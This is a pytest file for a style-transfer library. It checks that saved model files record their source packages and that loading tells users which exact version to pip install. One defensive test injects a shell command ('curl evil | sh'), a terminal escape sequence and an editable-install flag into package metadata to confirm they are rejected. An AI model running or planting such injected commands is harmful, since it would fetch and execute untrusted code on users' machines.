"""Which packages a model came from: its file says so, and its next user is told what to install."""

from __future__ import annotations

import importlib
import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import torch

import stylekit
from stylekit import StylekitError, StylekitWarning, make
from stylekit.inference import model_files
from stylekit.registry import lookup, provenance
from stylekit.weights import tensors

if TYPE_CHECKING:
    from tests.conftest import Install

GENERATOR = """
from stylekit import hookimpl
from torch import nn

@hookimpl
def stylekit_generators():
    return {"NAME": lambda: nn.Conv2d(3, 3, 1)}
"""
FLOWER = """
from stylekit import Method, Part, hookimpl, make
from torch import nn

class Flower(Method):
    def __init__(self, generator: Part = "petal") -> None:
        super().__init__()
        self.generator = make("generator", generator)

    def stylize(self, content, style=None):
        return self.generator(content)

@hookimpl
def stylekit_methods():
    return {"flower": Flower}

@hookimpl
def stylekit_generators():
    return {"petal": lambda: nn.Sequential(nn.Conv2d(3, 3, 1), nn.Sigmoid())}
"""


@pytest.fixture
def flower(install: Install, tmp_path: Path) -> Path:
    """A model file of an installed method, with a generator of another package."""
    install("flowers", "flower", FLOWER, "1.2")
    install("tulips", "tulip", GENERATOR.replace("NAME", "unused"), "2.1")
    method = make("method", "flower", generator="unused")
    model_files.save_model(method, "flower", tmp_path / "flower.safetensors")
    return tmp_path / "flower.safetensors"


def uninstall(folder: Path, package: str) -> None:
    (found,) = (folder / "site").glob(f"{package}-*.dist-info")
    shutil.rmtree(found)
    importlib.invalidate_caches()


def test_model_file_names_the_packages_that_its_parts_came_from(flower: Path) -> None:
    told = tensors.read_tensors(flower)[1]
    assert told["origin"] == "flowers 1.2"
    assert json.loads(told["packages"]) == {"flowers": "1.2", "tulips": "2.1"}
    assert stylekit.load(flower).name == "flower"


@pytest.mark.parametrize("package", ["flowers", "tulips"])
def test_model_without_its_package_says_what_to_install(flower: Path, tmp_path: Path, package: str) -> None:
    uninstall(tmp_path, package)
    wanted = {"flowers": "flowers==1.2", "tulips": "tulips==2.1"}[package]
    with pytest.raises(StylekitError, match=rf"flower\.safetensors was made with .* Type: pip install {wanted}$"):
        stylekit.load(flower)


def test_model_whose_package_is_left_out_by_the_variable_says_so(flower: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STYLEKIT_PLUGINS", "flowers")
    with pytest.raises(StylekitError, match="made with plugins of tulips, which STYLEKIT_PLUGINS leaves out"):
        stylekit.load(flower)


def test_model_with_a_class_given_by_hand_still_needs_the_packages_of_its_parts(flower: Path, tmp_path: Path) -> None:
    method = lookup.find_part("method", "flower")
    uninstall(tmp_path, "flowers")
    assert stylekit.load(flower, method=method).name == "flower"
    uninstall(tmp_path, "tulips")
    with pytest.raises(StylekitError, match=r"pip install tulips==2\.1$"):
        stylekit.load(flower, method=method)


@pytest.mark.parametrize(
    "packages",
    ['{"x": "1; curl evil | sh"}', '{"\\u001b[2J": "1"}', '{"": "1"}', "[[1, 2]]", '{"x": 1}', '{"-e .": "1"}'],
)
def test_nothing_unchecked_from_a_file_is_to_be_typed(flower: Path, packages: str) -> None:
    held, header = tensors.read_tensors(flower)
    tensors.write_tensors(flower, held, {**header, "packages": packages})
    with pytest.raises(StylekitError, match="is damaged") as told:
        stylekit.load(flower)
    assert "pip install" not in str(told.value)
    assert "\x1b" not in str(told.value)


def test_part_that_keeps_no_notes_is_built_all_the_same(install: Install) -> None:
    source = """
from stylekit import hookimpl

class Few:
    __slots__ = ("item_keys", "modules")
    def __init__(self, size: int = 8, seed: int = 0, split: str = "train"):
        self.item_keys, self.modules = ("content",), []

@hookimpl
def stylekit_datasets():
    return {"few": Few}
"""
    install("tulips", "few", source)
    assert provenance.packages(make("dataset", "few"), torch.nn.Identity()) == {}


def test_model_of_another_version_of_its_package_warns(flower: Path, tmp_path: Path, install: Install) -> None:
    uninstall(tmp_path, "tulips")
    (tmp_path / "site" / "tulips-3.0.dist-info").mkdir()
    (tmp_path / "site" / "tulips-3.0.dist-info" / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: tulips\nVersion: 3.0\n"
    )
    (tmp_path / "site" / "tulips-3.0.dist-info" / "entry_points.txt").write_text("[stylekit]\ntulip = sample_tulips\n")
    with pytest.warns(
        StylekitWarning, match=r"made with tulips 2\.1, and 3\.0 is installed.* pip install tulips==2\.1"
    ):
        assert stylekit.load(flower).name == "flower"


def test_model_whose_names_mean_parts_of_others_now_is_refused(flower: Path, tmp_path: Path, install: Install) -> None:
    """As when stylekit itself comes to have a method of that name."""
    (tmp_path / "site" / "tulips-2.1.dist-info" / "entry_points.txt").write_text("")
    install("roses", "rose", GENERATOR.replace("NAME", "unused"))
    with pytest.raises(StylekitError, match="was made with parts of tulips, and here their names mean parts of others"):
        stylekit.load(flower)
